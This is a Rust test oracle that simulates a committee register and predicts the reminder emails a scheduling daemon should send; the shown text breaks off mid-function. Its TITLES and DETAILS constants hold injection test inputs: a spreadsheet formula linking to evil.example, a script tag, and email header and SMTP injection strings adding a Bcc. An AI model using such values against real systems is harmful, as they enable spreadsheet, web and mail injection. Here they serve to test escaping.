//! A register as the simulation knows it, and whom and what it asks for: an oracle written from the
//! administrator's page, without the program's own planning.

use std::{
    collections::{BTreeMap, BTreeSet, HashMap, HashSet},
    fmt::Write as _,
};

use jiff::{
    Timestamp, ToSpan,
    civil::{Date, DateTime, Weekday},
    tz::TimeZone,
};

#[path = "ladder.rs"]
mod ladder;
#[path = "letters.rs"]
mod letters;

use ladder::{How, Reached, escalation};
pub(crate) use ladder::{Rung, ladder, settings as ladder_settings};
use letters::Due;
pub(crate) use letters::Written;

use super::{common::office::Office, dice::Dice};

/// Reference, of whom it is asked, recipient, deadline, step: a reminder for good.
pub(crate) type Key = [String; 5];

/// What cells may hold.
const TITLES: [&str; 7] = [
    "Nominate a rapporteur",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "<script>alert(1)</script> & more",
    "Review =?utf-8?q?=0D=0ABcc:_evil@example.org?= %0D%0AX-Evil: 1",
    "Réviser l'annexe «A», 見直し",
    "{{ 7 * 7 }} {% raw %}",
    ". \"quoted\"; semicolon, comma",
];

/// What the long ones may hold, line breaks and all.
const DETAILS: &str = ".\r\nBcc: evil@example.org\r\n\r\nX-Evil: 1\r\n.\r\nQUIT";

/// Of whom something is asked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Who {
    Person(usize),
    Body(usize),
    /// The chair of the first body: held, then vacant, then held by another. The body has a vice-chair, who is
    /// told while it is vacant.
    Chair,
}

#[derive(Debug, Clone)]
struct Action {
    reference: String,
    title: &'static str,
    asked: Who,
    also: Option<Who>,
    deadline: Option<Date>,
    /// The meeting that the deadline follows, and by how many weeks it is before it.
    meeting: Option<(usize, i64)>,
    status: &'static str,
    /// Whether the policy is the one of working days.
    working: bool,
}

#[derive(Debug, Clone)]
struct Person {
    name: String,
    email: String,
    second: Option<String>,
    /// Who stands in: always somebody further down, so that there is no loop.
    deputy: Option<usize>,
    /// First and last day of an absence.
    away: (Option<Date>, Option<Date>),
    /// Whether the person wants one letter a week.
    weekly: bool,
    /// The most letters that the person wants in any seven days.
    most: Option<usize>,
}

/// Somebody who is told of an action.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Told {
    /// As whom the ledger remembers it.
    id: String,
    /// Where the person asked gets letters: no address is asked twice.
    email: String,
    /// Where the letter goes: to the deputy of whoever is absent.
    reads: String,
    /// Whom it goes to, and whether that is a deputy.
    reader: String,
    stands_in: bool,
    /// How the person asked was found.
    who: Who,
    /// Whether whoever gets the letter wants one a week.
    weekly: bool,
    /// The most letters that whoever gets it wants in a week.
    most: Option<usize>,
    /// The copy that goes to the person asked while a deputy is told.
    copy: Option<String>,
    /// The name, and the day by which the absence is known, of somebody absent without a deputy.
    uncovered: Option<(String, Date)>,
}

/// Everything in the register.
#[derive(Debug, Clone)]
pub(crate) struct World {
    people: Vec<Person>,
    actions: Vec<Action>,
    /// The first chair's last day; five days later comes the second.
    term: Date,
    made: usize,
    /// The first days of meetings.
    meetings: [Date; 2],
    /// Days on which all bodies are closed.
    holidays: BTreeSet<Date>,
    limits: Limits,
}

/// The most letters in any seven days.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Limits {
    /// Whether people have some of their own.
    pub(crate) of_people: bool,
    /// Of everybody who has none.
    pub(crate) of_all: Option<usize>,
}

/// The person who is the vice-chair of the first body.
const VICE_CHAIR: usize = 3;

const BODIES: [(&str, &str); 3] = [("SG17", "sg17@example.org"), ("ISO", ""), ("IEC", "iec@example.org")];

impl World {
    pub(crate) fn new(dice: &mut Dice, today: Date, limits: Limits) -> Self {
        let most = |dice: &mut Dice| (limits.of_people && dice.chance(50)).then(|| 1 + dice.below(3));
        let people = (0..8)
            .map(|n| Person {
                name: format!("Person {n}"),
                email: format!("person{n}@example.org"),
                second: (n % 3 == 0).then(|| format!("second{n}@example.org")),
                deputy: (n < 7 && dice.chance(60)).then(|| n + 1 + dice.below(7 - n)),
                away: absence(dice, today),
                weekly: dice.chance(20),
                most: most(dice),
            })
            .collect();
        let term = today + dice.between(5, 150).days();
        let holidays = (0..20).map(|_| today + dice.between(0, 300).days()).collect();
        let meetings = [0; 2].map(|_| today + dice.between(10, 120).days());
        let mut world = Self { people, actions: Vec::new(), term, made: 0, meetings, holidays, limits };
        for _ in 0..dice.between(6, 12) {
            world.add(dice, today);
        }
        world
    }

    fn who(&self, dice: &mut Dice) -> Who {
        match dice.below(10) {
            0..5 => Who::Person(dice.below(self.people.len())),
            5..8 => Who::Body(dice.below(BODIES.len())),
            _ => Who::Chair,
        }
    }

    fn add(&mut self, dice: &mut Dice, today: Date) {
        self.made += 1;
        let meeting = dice.chance(25).then(|| (dice.below(2), dice.between(1, 6)));
        let deadline = match meeting {
            Some((which, weeks)) => Some(self.meetings[which] - (weeks * 7).days()),
            None => dice.chance(80).then(|| today + dice.between(-10, 60).days()),
        };
        let action = Action {
            reference: format!("R{:04}", self.made),
            title: dice.pick(&TITLES),
            asked: self.who(dice),
            also: dice.chance(20).then(|| self.who(dice)),
            deadline,
            meeting,
            status: "open",
            working: dice.chance(50),
        };
        self.actions.push(action);
    }

    /// Changes something; says what.
    pub(crate) fn edit(&mut self, dice: &mut Dice, today: Date) -> String {
        let at = dice.below(self.actions.len());
        match dice.below(16) {
            11 if self.limits.of_people => {
                let person = dice.below(self.people.len());
                self.people[person].most = dice.chance(60).then(|| 1 + dice.below(3));
                format!("person {person} gets at most {:?} letters a week", self.people[person].most)
            }
            12 => {
                let which = dice.below(2);
                self.meetings[which] = today + dice.between(5, 100).days();
                self.follow_the_meetings();
                format!("meeting {which} is on {}", self.meetings[which])
            }
            13 => {
                let person = dice.below(self.people.len());
                self.people[person].away = absence(dice, today);
                format!("person {person} is away {:?}", self.people[person].away)
            }
            14 => {
                let person = dice.below(self.people.len() - 1);
                let deputy = dice.chance(70).then(|| person + 1 + dice.below(7 - person));
                self.people[person].deputy = deputy;
                format!("the deputy of person {person} is {deputy:?}")
            }
            15 => {
                let person = dice.below(self.people.len());
                self.people[person].weekly = !self.people[person].weekly;
                format!("person {person} gets letters weekly: {}", self.people[person].weekly)
            }
            0 | 1 if self.actions.len() < 25 => {
                self.add(dice, today);
                format!("{} is new", self.actions.last().unwrap().reference)
            }
            2..5 => {
                let action = &mut self.actions[at];
                action.status = dice.pick(&["done", "withdrawn", "superseded", "in progress"]);
                format!("{} is {}", action.reference, action.status)
            }
            5 => {
                let action = &mut self.actions[at];
                action.status = dice.pick(&["open", "pending"]);
                format!("{} is {} again", action.reference, action.status)
            }
            6..8 => {
                let deadline = dice.chance(85).then(|| today + dice.between(-5, 40).days());
                let action = &mut self.actions[at];
                (action.deadline, action.meeting) = (deadline, None);
                format!("the deadline of {} is {deadline:?}", action.reference)
            }
            8 if self.open().len() > 5 && self.actions.len() > 8 => {
                format!("{} is gone", self.actions.remove(at).reference)
            }
            9 => {
                let who = self.who(dice);
                self.actions[at].asked = who;
                format!("{} is asked of {who:?}", self.actions[at].reference)
            }
            10 => {
                let person = dice.below(self.people.len());
                let email = dice.pick(&["gone", "new", "person", "other", "person", "new"]);
                self.people[person].email = format!("{email}{person}@example.org");
                format!("person {person} is at {}", self.people[person].email)
            }
            _ => {
                self.actions[at].title = dice.pick(&TITLES);
                format!("{} has another title", self.actions[at].reference)
            }
        }
    }

    fn follow_the_meetings(&mut self) {
        for action in &mut self.actions {
            if let Some((which, weeks)) = action.meeting {
                action.deadline = Some(self.meetings[which] - (weeks * 7).days());
            }
        }
    }

    /// What is open now.
    pub(crate) fn open(&self) -> HashSet<String> {
        let open = self.actions.iter().filter(|action| action.is_open());
        open.map(|action| action.reference.clone()).collect()
    }

    /// What is closed now, of which that is told.
    pub(crate) fn closed(&self) -> HashSet<String> {
        let closed = self.actions.iter().filter(|action| !action.is_open() && action.working);
        closed.map(|action| action.reference.clone()).collect()
    }

    /// Whether an action is closed, and whoever was reminded is told so.
    pub(crate) fn announces_closure(&self, reference: &str, asked: &str) -> bool {
        let mut found =
            self.actions.iter().filter(|one| one.reference == reference && self.asked(one.asked) == asked);
        found.any(|action| action.working && !action.is_open())
    }

    /// The actions, by reference and of whom they are asked, that another register has no more.
    pub(crate) fn without(&self, other: &Self) -> Vec<[String; 2]> {
        let ids = |world: &Self| -> HashSet<[String; 2]> {
            world.actions.iter().map(|one| [one.reference.clone(), world.asked(one.asked)]).collect()
        };
        ids(self).difference(&ids(other)).cloned().collect()
    }

    /// Whether the register still asks for this.
    pub(crate) fn still_asks(&self, key: &Key, today: Date) -> bool {
        let found = self.actions.iter().find(|action| action.reference == key[0]);
        found.is_some_and(|action| {
            action.is_open()
                && self.asked(action.asked) == key[1]
                && deadline(action) == key[3]
                && self
                    .addressed(action, today)
                    .iter()
                    .any(|one| one.id == key[2] || one.copy.as_ref() == Some(&key[2]))
        })
    }

    pub(crate) fn write(&self, office: &Office) {
        let mut text =
            "Name,Email,Second email,Deputy,Absent from,Absent until,Letters,Letters a week\n".to_owned();
        let day = |day: Option<Date>| day.map_or_else(String::new, |day| day.to_string());
        for Person { name, email, second, deputy, away, weekly, most } in &self.people {
            let deputy = deputy.map_or("", |deputy| &self.people[deputy].name);
            let (second, from, until) = (second.as_deref().unwrap_or(""), day(away.0), day(away.1));
            let letters = if *weekly { "weekly" } else { "" };
            let most = most.map_or_else(String::new, |most| most.to_string());
            let _ = writeln!(text, "{name},{email},{second},{deputy},{from},{until},{letters},{most}");
        }
        office.write("register/Representatives.csv", &text);
        let mut text = "Body,Secretariat email,Holidays\n".to_owned();
        for (name, email) in BODIES {
            let _ = writeln!(text, "{name},{email},Bodies");
        }
        office.write("register/Bodies.csv", &text);
        let mut text = "Calendar,Date,Name\n".to_owned();
        for day in &self.holidays {
            let _ = writeln!(text, "Bodies,{day},Holiday");
        }
        office.write("register/Holidays.csv", &text);
        let mut text = "Meeting,Body,Starts\n".to_owned();
        for (number, day) in self.meetings.iter().enumerate() {
            let _ = writeln!(text, "M-{number},SG17,{day}");
        }
        office.write("register/Meetings.csv", &text);
        let next = self.term + 5.days();
        let text = format!(
            "Body,Role,At,Representative,From,Until\nSG17,chair,,Person 1,,{}\nSG17,chair,,Person 2,{next},\n\
             SG17,vice-chair,,Person {VICE_CHAIR},,\n",
            self.term
        );
        office.write("register/Roles.csv", &text);
        self.write_actions(office, |_| true);
    }

    /// The sheet of actions, of some of them.
    pub(crate) fn write_actions(&self, office: &Office, which: impl Fn(usize) -> bool) {
        let mut text = "Ref,Title,Details,Asked of,Also to,Deadline,Policy,Status\n".to_owned();
        for (_, action) in self.actions.iter().enumerate().filter(|(n, _)| which(*n)) {
            let _ = writeln!(
                text,
                "{},\"{}\",\"{DETAILS}\",{},{},{},{},{}",
                action.reference,
                action.title.replace('"', "\"\""),
                self.asked(action.asked),
                action.also.map_or_else(String::new, |who| self.asked(who)),
                written(action),
                if action.working { "working" } else { "" },
                action.status
            );
        }
        office.write("register/Actions.csv", &text);
    }

    fn asked(&self, who: Who) -> String {
        match who {
            Who::Person(n) => self.people[n].name.clone(),
            Who::Body(n) => BODIES[n].0.to_owned(),
            Who::Chair => "chair of SG17".to_owned(),
        }
    }

    /// Whether the body for which a recipient is asked, and the secretariat, work on a day. Persons are asked
    /// for no body, unless they are the chair.
    fn is_open(&self, day: Date, who: Who) -> bool {
        let of_a_body = match who {
            Who::Person(_) => false,
            // Whoever has no address is told through the secretariat that runs rappel.
            Who::Body(n) => !BODIES[n].1.is_empty(),
            Who::Chair => true,
        };
        is_weekday(day) && !(of_a_body && self.holidays.contains(&day))
    }

    /// The step that is reached for a recipient, and its day.
    fn step(&self, action: &Action, who: Who, now: DateTime) -> Option<(String, Date)> {
        if action.working { self.working_step(action, who, now) } else { step(action.deadline, now) }
    }

    /// 5 and 2 working days, 7 and 1 days before, on the day, each week after, or on the first of the month;
    /// what falls on a closed day is told before it.
    fn working_step(&self, action: &Action, who: Who, now: DateTime) -> Option<(String, Date)> {
        let today = now.date();
        let is_open = |day: Date| self.is_open(day, who);
        let mut steps = Vec::new();
        match action.deadline {
            None => {
                let months = (-2..=1).map(|n| (today.first_of_month() + n.months()).first_of_month());
                steps.extend(months.map(|first| (format!("outstanding {first}"), first)));
            }
            Some(deadline) => {
                for count in [5, 2] {
                    steps.push((format!("{count}wd before"), self.working_days_before(deadline, count, who)));
                }
                steps.extend([7, 1].map(|days| (format!("{days}d before"), deadline - days.days())));
                steps.push(("on the day".to_owned(), deadline));
                let weeks = (1..=100).map(|n| (format!("{}d overdue", n * 7), deadline + (n * 7).days()));
                steps.extend(weeks);
            }
        }
        let told_on = |day: Date| self.told_on(day, who);
        // Of two on the same day the one of calendar days is said.
        steps.sort_by_key(|(step, day)| (*day, !step.contains("wd")));
        // The first of the month begins at 8; where what falls on the next day is told on this one, with the day.
        let has_begun = now.hour() >= 8 || !is_open(today.tomorrow().unwrap());
        let is_ahead = |day: Date| action.deadline.is_none() && day == today && !has_begun;
        steps.into_iter().rfind(|(_, day)| told_on(*day) <= today && !is_ahead(*day))
    }

    /// The first of the steps up to that of `day` that a recipient was not told who was told up to a day, as far back as
    /// letters list them.
    fn first_untold(&self, action: &Action, who: Who, told: Option<Date>, day: Date) -> Date {
        const LISTED: usize = 12;
        let Some(deadline) = action.deadline else { return day };
        let mut days: Vec<Date> = (0..=100).map(|week| deadline + (week * 7).days()).collect();
        if action.working {
            days.extend([7, 1].map(|days| deadline - days.days()));
            days.extend([5, 2].map(|count| self.working_days_before(deadline, count, who)));
        } else {
            days.extend([14, 7, 3, 1].map(|days| deadline - days.days()));
        }
        days.retain(|one| *one < day && told.is_none_or(|told| told < *one));
        days.sort_unstable();
        days.get(days.len().saturating_sub(LISTED)).copied().unwrap_or(day)
    }

    fn working_days_before(&self, mut day: Date, mut left: i32, who: Who) -> Date {
        while left > 0 {
            day = day.yesterday().unwrap();
            left -= i32::from(self.is_open(day, who));
        }
        day
    }

    /// The last open day up to a day.
    fn told_on(&self, mut day: Date, who: Who) -> Date {
        while !self.is_open(day, who) {
            day = day.yesterday().unwrap();
        }
        day
    }

    /// Who is told about an action on a day, no address twice.
    fn addressed(&self, action: &Action, day: Date) -> Vec<Told> {
        let mut all: Vec<Told> = Vec::new();
        for who in std::iter::once(action.asked).chain(action.also) {
            let found = match (who, self.chair(day)) {
                (Who::Person(n), _) | (Who::Chair, Some(n)) => vec![self.person(n, who, day)],
                (Who::Body(n), _) => vec![self.secretariat(n, who)],
                (Who::Chair, None) => {
                    let vice = self.person(VICE_CHAIR, who, day);
                    vec![self.secretariat(0, who), Told { id: format!("vacant seat:{}", vice.id), ..vice }]
                }
            };
            for one in found {
                if all.iter().all(|other| other.email != one.email) {
                    all.push(one);
                }
            }
        }
        all
    }

    /// Who is the chair of the first body on a day, if anybody is.
    fn chair(&self, day: Date) -> Option<usize> {
        if day <= self.term {
            return Some(1);
        }
        (day >= self.term + 5.days()).then_some(2)
    }

    fn person(&self, n: usize, who: Who, day: Date) -> Told {
        let id = |n: usize| format!("person:person {n}");
        let Person { name, email, away, weekly, most, .. } = &self.people[n];
        let mut told = Told {
            id: id(n),
            email: email.clone(),
            reads: email.clone(),
            reader: id(n),
            stands_in: false,
            who,
            weekly: *weekly,
            most: most.or(self.limits.of_all),
            copy: None,
            uncovered: None,
        };
        if !self.is_away(n, day) {
            return told;
        }
        let mut deputy = self.people[n].deputy;
        while let Some(next) = deputy.filter(|next| self.is_away(*next, day)) {
            deputy = self.people[next].deputy;
        }
        // Whoever stands in gets the letter, as often as that person wants.
        if let Some(deputy) = deputy {
            let Person { email, weekly, most, .. } = &self.people[deputy];
            (told.reads, told.reader, told.stands_in) = (email.clone(), id(deputy), true);
            (told.weekly, told.most) = (*weekly, most.or(self.limits.of_all));
        }
        match deputy {
            Some(deputy) if self.people[deputy].email == *email => {}
            Some(deputy) => told.copy = Some(format!("copy:{}:of:{}", id(n), id(deputy))),
            None => told.uncovered = away.0.or(away.1).map(|day| (name.clone(), day)),
        }
        told
    }

    /// The most letters in a week to somebody, by their name in the ledger.
    fn most_of(&self, reader: &str) -> Option<usize> {
        let person = reader.strip_prefix("person:person ").and_then(|n| n.parse::<usize>().ok());
        person.and_then(|n| self.people[n].most).or(self.limits.of_all)
    }

    fn secretariat(&self, body: usize, who: Who) -> Told {
        let (name, email) = BODIES[body];
        let (id, email) = match email {
            "" => ("secretariat".to_owned(), "tsb@example.int"),
            email => (format!("secretariat:{}", name.to_lowercase()), email),
        };
        Told {
            reader: id.clone(),
            id,
            email: email.to_owned(),
            reads: email.to_owned(),
            stands_in: false,
            who,
            weekly: false,
            most: self.limits.of_all,
            copy: None,
            uncovered: None,
        }
    }

    /// Whether this is the address of somebody who is absent on a day, and for whom a deputy is there.
    pub(crate) fn is_represented(&self, address: &str, day: Date) -> bool {
        let person = self.people.iter().position(|person| person.email == address);
        person.is_some_and(|n| self.person(n, Who::Person(n), day).copy.is_some())
    }

    fn is_away(&self, n: usize, day: Date) -> bool {
        match self.people[n].away {
            (None, None) => false,
            (from, until) => from.is_none_or(|from| from <= day) && until.is_none_or(|until| day <= until),
        }
    }
}

/// An absence, or none; with both ends or with one.
fn absence(dice: &mut Dice, today: Date) -> (Option<Date>, Option<Date>) {
    if dice.chance(50) {
        return (None, None);
    }
    let from = today + dice.between(-10, 120).days();
    let until = from + dice.between(0, 25).days();
    (dice.chance(90).then_some(from), dice.chance(90).then_some(until))
}

impl Action {
    /// Whether it is told that the deadline moved: by more than a day, and any day by which its meeting moved.
    pub(crate) fn is_moved(&self, from: Date, to: Date) -> bool {
        (to - from).get_days().abs() > i32::from(self.meeting.is_none())
    }

    fn is_open(&self) -> bool {
        ["open", "pending", "in progress"].contains(&self.status)
    }
}

/// The deadline as the secretariat writes it.
fn written(action: &Action) -> String {
    match (action.meeting, action.deadline) {
        (Some((which, weeks)), _) => format!("{weeks} weeks before M-{which}"),
        (None, Some(day)) => day.to_string(),
        (None, None) => String::new(),
    }
}

fn deadline(action: &Action) -> String {
    action.deadline.map_or_else(|| "none".to_owned(), |day| day.to_string())
}

/// That somebody was told that an action is closed.
#[derive(Debug, Clone)]
pub(crate) struct Closure {
    pub(crate) key: Key,
    /// The day on which that was seen, of which the reminder is.
    pub(crate) closed: Date,
    /// The day on which it was told.
    pub(crate) told: Date,
}

/// What has to be told, from the first day on.
#[derive(Debug, Clone)]
pub(crate) struct Oracle {
    zone: TimeZone,
    /// The last send time that was served.
    pub(crate) served: Timestamp,
    /// Whether there was one.
    has_served: bool,
    /// Everything that was due at a send time that was served.
    pub(crate) told: BTreeSet<Key>,
    /// What was told of each action to each recipient, with the day of its step, in that order.
    reminded: HashMap<[String; 3], Vec<(Key, Date)>>,
    /// What was told and taken back before it left: nobody was reminded of it, and it is told again when it is true.
    untrue: BTreeSet<Key>,
    /// Absences without a deputy of people who were told something meanwhile.
    pub(crate) uncovered: BTreeSet<(String, Date)>,
    /// What was told of closed actions, as the ledger has it: it stands for the steps up to its day.
    pub(crate) closures: Vec<Closure>,
    /// What had not left when a later step was told, with the day of that.
    pub(crate) merged: HashMap<Key, Date>,
    /// Actions that were not in the register in between.
    pub(crate) gone: HashSet<[String; 2]>,
    /// The ladder of the default policy, from the first rung on.
    pub(crate) ladder: &'static [Rung],
    /// When each rung was told, by reference, of whom it is asked, deadline.
    escalated: HashMap<[String; 3], Vec<(Key, i64, Date)>>,
    /// Of which deadline somebody said that there is an answer, by reference, of whom it is asked.
    pub(crate) acknowledged: HashMap<[String; 2], Date>,
    /// Of which deadline somebody approved a rung, by the same and the days of the rung.
    pub(crate) approved: HashMap<([String; 2], i64), Date>,
    /// How actions stood when somebody was first reminded, by the same.
    stood: HashMap<[String; 3], &'static str>,
    /// What was told of an action to those who heard that nobody answers, by letters of their own or by copies, by who
    /// they are.
    apart: HashMap<[String; 2], BTreeMap<String, Vec<Key>>>,
    /// On which day each reminder was told.
    told_on: HashMap<Key, Date>,
    /// The letters about actions that were written.
    letters: Vec<Written>,
    /// How the letters of what was told ended, those that did: when, and whether the mail server took them. Nobody is said
    /// not to answer what did not leave.
    pub(crate) ends: HashMap<Key, Option<(Timestamp, bool)>>,
}

impl Oracle {
    pub(crate) fn new(start: Timestamp, ladder: &'static [Rung]) -> Self {
        let zone = TimeZone::get("Europe/Zurich").unwrap();
        Self {
            zone,
            served: start,
            has_served: false,
            told: BTreeSet::new(),
            reminded: HashMap::new(),
            untrue: BTreeSet::new(),
            uncovered: BTreeSet::new(),
            closures: Vec::new(),
            merged: HashMap::new(),
            gone: HashSet::new(),
            ladder,
            acknowledged: HashMap::new(),
            approved: HashMap::new(),
            escalated: HashMap::new(),
            stood: HashMap::new(),
            apart: HashMap::new(),
            told_on: HashMap::new(),
            letters: Vec::new(),
            ends: HashMap::new(),
        }
    }

    pub(crate) fn day(&self, at: Timestamp) -> Date {
        self.zone.to_datetime(at).date()
    }

    /// The daemon runs from one instant to another: the latest send time that it missed, then each. What it took back
    /// meanwhile, in that order, was not told at the send times after that.
    pub(crate) fn run(
        &mut self,
        world: &World,
        from: Timestamp,
        until: Timestamp,
        taken_back: &[(Timestamp, Key)],
    ) {
        let mut times: Vec<_> = self.send_times(self.served, from).pop().into_iter().collect();
        times.extend(self.send_times(self.served.max(from), until));
        // What was taken back in the end waited until then.
        for (_, key) in taken_back {
            self.ends.entry(key.clone()).or_default();
        }
        let mut taken_back = taken_back.iter();
        for at in times {
            // What was missed is served at the beginning, as things are then.
            let served = at.max(from);
            let before = taken_back.as_slice().partition_point(|(then, _)| *then <= served);
            self.untrue.extend(taken_back.by_ref().take(before).map(|(_, key)| key.clone()));
            // A send time that was missed is served late if anything was due at it.
            let mut in_time = self.clone();
            in_time.forget_withdrawn(served);
            in_time.serve(world, at);
            if served == at || in_time.told != self.told || in_time.untrue != self.untrue {
                self.serve(world, served);
            }
            (self.served, self.has_served) = (at, true);
        }
        self.untrue.extend(taken_back.map(|(_, key)| key.clone()));
    }

    /// Takes in what was told of closed actions by now. An absence without a deputy of whoever is told that is said to
    /// the secretariat, as for any other letter.
    pub(crate) fn hear_of_closures(&mut self, world: &World, closures: Vec<Closure>) {
        let known = std::mem::replace(&mut self.closures, closures);
        let known: HashSet<_> = known.into_iter().map(|closure| closure.key).collect();
        for Closure { key, told, .. } in self.closures.iter().filter(|closure| !known.contains(&closure.key))
        {
            let who = key[2].rsplit_once("person:person ").filter(|_| !key[2].starts_with("copy:"));
            if let Some(n) = who.and_then(|(_, n)| n.parse().ok()) {
                self.uncovered.extend(world.person(n, Who::Person(n), *told).uncovered);
            }
        }
    }

    /// What was told was taken back before it left.
    pub(crate) fn take_back(&mut self, key: Key) {
        self.untrue.insert(key);
    }

    /// Whether letters leave at this instant: Monday to Friday at 8.
    pub(crate) fn is_send_time(&self, at: Timestamp) -> bool {
        let local = self.zone.to_datetime(at);
        local.time() == jiff::civil::time(8, 0, 0, 0) && is_weekday(local.date())
    }

    /// The send times after one instant, up to another.
    fn send_times(&self, after: Timestamp, until: Timestamp) -> Vec<Timestamp> {
        let mut times = Vec::new();
        let mut day = self.day(after);
        while day <= self.day(until) {
            let at = day.at(8, 0, 0, 0).to_zoned(self.zone.clone()).unwrap().timestamp();
            if at > after && at <= until && is_weekday(day) {
                times.push(at);
            }
            day = day.tomorrow().unwrap();
        }
        times
    }

    /// The deadline of which a recipient was reminded last, if it is so far off that it is told.
    fn moved_from(&self, action: &Action, about: &[String; 4]) -> Option<Date> {
        let [reference, asked, recipient, deadline] = about;
        let told = self.reminded.get(&[reference.clone(), asked.clone(), recipient.clone()])?;
        let from = self.told_last(told.iter().map(|(key, _)| key), about)?;
        action.is_moved(from, deadline.parse().ok()?).then_some(from)
    }

    /// The deadline that was told last of these, as far as they were not taken back, or that had what was told to be closed.
    fn told_last<'k>(
        &'k self,
        told: impl DoubleEndedIterator<Item = &'k Key>,
        about: &[String; 4],
    ) -> Option<Date> {
        let mut last = told.rev().find(|key| !self.untrue.contains(*key))?;
        let closures = self.closures.iter().filter(|one| one.key[..3] == about[..3]);
        if let Some(closure) = closures.max_by_key(|one| one.told)
            && self.told_on.get(last).is_none_or(|on| closure.told >= *on)
        {
            last = &closure.key;
        }
        last[3].parse().ok()
    }

    /// What a recipient was told of an action, as far as it was not taken back.
    fn was_told(&self, whom: &[String; 3]) -> bool {
        self.reminded.get(whom).is_some_and(|told| told.iter().any(|(key, _)| !self.untrue.contains(key)))
    }

    /// The day of the latest step that a recipient was told of an action with a deadline.
    fn latest(&self, about: &[String; 4]) -> Option<Date> {
        let [reference, asked, recipient, deadline] = about;
        let told = self.reminded.get(&[reference.clone(), asked.clone(), recipient.clone()]);
        let still_told = |(key, _): &&(Key, Date)| key[3] == *deadline && !self.untrue.contains(key);
        let told = told.into_iter().flatten().filter(still_told);
        let closed = self.closures.iter().filter(|one| one.key[..4] == about[..]).map(|one| one.closed);
        told.map(|(_, day)| *day).chain(closed).max()
    }

    /// The chair, if new to the seat: never told of what is asked of it, while somebody else was, who does not
    /// just help.
    fn new_chair(&self, world: &World, today: Date) -> Option<String> {
        let chair = world.person(world.chair(today)?, Who::Chair, today).id;
        let of_chair =
            world.actions.iter().filter(|one| one.asked == Who::Chair || one.also == Some(Who::Chair));
        let mut takes_over = false;
        for action in of_chair {
            let [reference, asked] = [action.reference.clone(), world.asked(action.asked)];
            if self.was_told(&[reference.clone(), asked.clone(), chair.clone()]) {
                return None;
            }
            let helping: Vec<_> = world
                .addressed(action, today)
                .into_iter()
                .filter(|one| one.who != Who::Chair)
                .map(|one| one.id)
                .collect();
            let mut told = self.reminded.keys().filter(|whom| {
                whom[0] == reference && whom[1] == asked && !whom[2].starts_with("escalation:")
            });
            takes_over |= action.is_open()
                && action.asked == Who::Chair
                && told.any(|whom| !helping.contains(&whom[2]) && self.was_told(whom));
        }
        takes_over.then_some(chair)
    }

    fn serve(&mut self, world: &World, at: Timestamp) {
        let mut put_off = HashSet::new();
        loop {
            let (due, too_many) =
                self.within_limits(self.due(world, at, &put_off), at, |reader| world.most_of(reader));
            // Whoever is asked is reminded as long as nobody is told in their place.
            if too_many.is_empty() {
                for one in due {
                    self.tell(world, one, self.day(at));
                }
                return;
            }
            put_off.extend(too_many.into_iter().map(|[reference, asked, ..]| [reference, asked]));
        }
    }

    /// All that is due, whoever has had enough; without the rungs of these actions.
    fn due(&self, world: &World, at: Timestamp, put_off: &HashSet<[String; 2]>) -> Vec<Due> {
        let today = self.day(at);
        let new_chair = self.new_chair(world, today);
        let monday = self.weekly_letters_leave(at);
        let waits = |to: &Told| {
            let (is_now, monday) = monday;
            to.weekly && !is_now && !self.waits_since(to, monday, at)
        };
        let mut all = Vec::new();
        for action in world.actions.iter().filter(|action| action.is_open()) {
            let rung = self.rung(world, action, at);
            let about = [action.reference.clone(), world.asked(action.asked)];
            let rung = rung.filter(|_| !put_off.contains(&about));
            let how = rung.as_ref().map(|one| one.rung.how);
            // Whoever is told in place of those who are asked is told alone.
            let reminded =
                if how == Some(How::Instead) { Vec::new() } else { self.reminded_on(world, action, today) };
            let copied = rung.as_ref().filter(|one| one.rung.how == How::Copy);
            let mut has_reader = false;
            for to in reminded {
                let Some(mut due) = self.due_to(world, action, to, at, (new_chair.as_deref(), copied)) else {
                    continue;
                };
                if due.is_silence {
                    due.reader = copied.map(|one| one.to.clone()).filter(|_| !has_reader);
                    has_reader = true;
                } else if waits(&due.to) {
                    continue;
                }
                all.push(due);
            }
            if let Some(reached) = rung.filter(|one| one.rung.how != How::Copy) {
                all.push(escalation(world, action, reached, today));
            }
            all.extend(self.told_apart(world, action, today).into_iter().filter(|one| !waits(&one.to)));
        }
        all
    }

    /// What is due to one of those who are reminded of an action: who the new chair is, and which rung is told in copy, matter.
    fn due_to(
        &self,
        world: &World,
        action: &Action,
        to: Told,
        at: Timestamp,
        (new_chair, copied): (Option<&str>, Option<&Reached>),
    ) -> Option<Due> {
        let today = self.day(at);
        let who = to.who;
        let reached = world.step(action, who, self.zone.to_datetime(at));
        let is_new = who == Who::Chair && new_chair == Some(&to.id);
        let asked = world.asked(action.asked);
        let about = [action.reference.clone(), asked.clone(), to.id.clone(), deadline(action)];
        let of_action = [action.reference.clone(), asked, deadline(action)];
        let copied = copied.filter(|_| self.heard_before(&of_action, &to, at));
        let latest = self.latest(&about);
        let untold = reached.clone().filter(|(_, day)| latest.is_none_or(|latest| latest < *day));
        let since = untold.as_ref().map(|(_, day)| world.first_untold(action, who, latest, *day));
        // That a deadline moved stands for every step that is reached. So does the welcome, which tells all that is open,
        // and that nobody answers.
        let news = match self.moved_from(action, &about) {
            Some(from) => Some(format!("moved {today} from {from}")),
            None if is_new => Some(format!("welcome {today}")),
            None => copied.map(|one| one.rung.step()),
        };
        let [reference, asked, id, deadline] = about;
        let key = |step| [reference, asked, id, deadline, step];
        if let Some(step) = news {
            let day = untold.map_or(today, |(_, day)| day.max(today));
            let copied = copied.filter(|one| step == one.rung.step());
            let (rung, is_copied) = (copied.map(|one| one.rung.days), copied.is_some());
            let since = since.unwrap_or(day).min(day);
            return Some(Due {
                since,
                rung,
                is_silence: is_copied,
                is_copied,
                ..Due::new(key(step), day, to)
            });
        }
        let (step, day) = untold?;
        // Whoever has a maximum is told as often as that allows, and nothing is late.
        let counted = to.most.is_none().then(|| self.counted_with(world, (action, who, to.weekly), day, at));
        let counted = counted.flatten();
        let since = since.unwrap_or(day);
        Some(Due { since, ..Due::new(key(step), counted.unwrap_or(day), to) })
    }

    /// Tells what is due.
    fn tell(&mut self, world: &World, due: Due, today: Date) {
        let key = due.key.clone();
        let about = [key[0].clone(), key[1].clone(), key[3].clone()];
        let whom = [key[0].clone(), key[1].clone(), key[2].clone()];
        let apart = self.apart.entry([key[0].clone(), key[1].clone()]).or_default();
        if let Some(name) = key[2].strip_prefix("escalation:") {
